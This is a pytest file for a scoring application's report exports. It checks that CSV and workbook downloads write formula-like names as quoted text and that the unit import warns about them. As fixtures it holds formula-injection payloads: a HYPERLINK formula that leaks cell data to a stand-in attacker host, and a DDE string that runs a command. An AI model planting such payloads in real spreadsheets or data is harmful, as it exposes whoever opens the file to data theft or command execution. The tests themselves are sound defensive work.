"""Names that look like spreadsheet formulas: every export writes them as text, figures as
numbers; the unit import warns about them; CSV downloads name their charset once."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from reform.extensions import db
from reform.models import Block, Campaign, Unit

LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
BLOCK = "-2+3 Khối"
CAMPAIGN_NAME = "+Kỳ đánh giá =1+1"
HEADER = "unit_code,criterion_code,value,note\n"
FIGURES = ("self_points", "points", "max_points", "index")


@pytest.fixture
def hostile(app, units, campaign) -> Campaign:
    """The campaign's two departments and their block renamed like formulas, both self-scored."""
    from reform.services.scores_import import import_scores

    units["own"].name = LINK
    units["other"].name = DDE
    db.session.scalar(select(Block).where(Block.code == "SBN")).name = BLOCK
    campaign.name = CAMPAIGN_NAME
    db.session.commit()
    rows = "STP,1.1,Đúng hạn,=1+1 ghi chú\nSTP,1.2,yes,\nSYT,1.2,no,\n"
    assert import_scores(campaign, (HEADER + rows).encode(), stage="self", filename="s.csv").ok
    return campaign


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def _check_csv(rows: list[dict]) -> None:
    by_code = {row["unit_code"]: row for row in rows}
    assert by_code["STP"]["unit_name"] == "'" + LINK
    assert by_code["SYT"]["unit_name"] == "'" + DDE
    assert {row["block_name"] for row in rows} == {"'" + BLOCK}
    # Figures are written as numbers, untouched.
    for row in rows:
        for key in FIGURES:
            assert Decimal(row[key]) >= 0, (key, row[key])


def _check_xlsx(data: bytes) -> None:
    """No cell of any sheet is a formula; the names are text as typed; figures are numbers."""
    workbook = load_workbook(io.BytesIO(data))
    names: dict[str, object] = {}
    numbers = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    names[cell.value] = cell
                if isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                    numbers += 1
    assert LINK in names and DDE in names
    assert numbers > 0, "figures are numeric cells"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(part), part


def test_the_results_csv_download_writes_formulas_as_text(login_as, hostile):
    response = login_as("leader").get(f"/reports/{hostile.code}/results.csv")
    assert response.status_code == 200
    # The charset is named once.
    assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]
    _check_csv(_csv_rows(response.data))


def test_the_results_workbook_download_holds_no_formula(login_as, hostile):
    response = login_as("leader").get(f"/reports/{hostile.code}/results.xlsx")
    assert response.status_code == 200
    _check_xlsx(response.data)
    # The campaign's name in the title rows is text too.
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    assert sheet["A5"].value == CAMPAIGN_NAME and sheet["A5"].data_type == "s"


def test_the_published_exports_hold_no_formula(login_as, hostile):
    from reform.services.publication import publish

    publish(hostile, actor=None, force=True)
    c = login_as("secretariat")
    _check_csv(_csv_rows(c.get(f"/reports/{hostile.code}/results.csv").data))
    _check_xlsx(c.get(f"/reports/{hostile.code}/results.xlsx").data)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reform_results_writes_formulas_as_text(runner, tmp_path, hostile, fmt):
    output = tmp_path / f"results.{fmt}"
    result = runner.invoke(args=["results", hostile.code, "--format", fmt, "--output", output])
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        _check_csv(_csv_rows(output.read_bytes()))
    else:
        _check_xlsx(output.read_bytes())


def test_the_audit_csv_writes_names_and_notes_as_text(login_as, hostile):
    response = login_as("admin").get(f"/campaigns/{hostile.code}/audit.csv")
    assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + LINK in cells and LINK not in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_the_other_csv_downloads_name_their_charset_once(login_as, hostile):
    c = login_as("admin")
    for url in (f"/campaigns/{hostile.code}/recusals.csv", "/history/sample.csv"):
        response = c.get(url)
        assert response.status_code == 200, url
        assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"], url


# ---- the unit import warns ----------------------------------------------------------------------

UNITS_CSV = (
    "code,name,kind,parent_code,block_code,block_name\n"
    "T9,UBND tỉnh,province,,,\n"
    'S9,"=HYPERLINK(""http://x"",""y"")",department,T9,B9,@Khối\n'
    "S10,-5,department,T9,B9,\n"
    "S11,Sở Xây dựng,department,T9,B9,\n"
)


def test_the_import_warns_about_formula_like_names_and_imports_them(app):
    from reform.services.units import import_units

    report = import_units(UNITS_CSV.encode())
    assert report.ok and report.created == 4
    # Line 3: the unit's name and its block's name; "-5" is a plain number and runs nothing.
    assert [line for line, _message in report.warnings] == [3, 3]
    assert '=HYPERLINK("http://x","y")' in report.warnings[0][1]
    assert "@Khối" in report.warnings[1][1]
    assert db.session.scalar(select(Unit).where(Unit.code == "S9")).name.startswith("=")


def test_reform_import_units_prints_the_warnings(runner, tmp_path, app):
    path = tmp_path / "units.csv"
    path.write_text(UNITS_CSV, encoding="utf-8")
    result = runner.invoke(args=["import-units", str(path)])
    assert result.exit_code == 0, result.output
    assert "units.csv:3: warning:" in result.output
    assert "4 created" in result.output


def test_the_import_page_shows_the_warnings(login_as, units):
    response = login_as("secretariat").post(
        "/admin/units/import",
        data={"file": (io.BytesIO(UNITS_CSV.encode()), "units.csv")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert html.count("flash-warning") == 2
    assert "=HYPERLINK(&#34;http://x&#34;,&#34;y&#34;)" in html or "=HYPERLINK(&quot;" in html


def test_a_refused_import_also_lists_the_warnings(login_as, units):
    bad = UNITS_CSV + "S12,,department,T9,,\n"
    response = login_as("secretariat").post(
        "/admin/units/import",
        data={"file": (io.BytesIO(bad.encode()), "units.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert 'id="import-warnings"' in html and "@Khối" in html
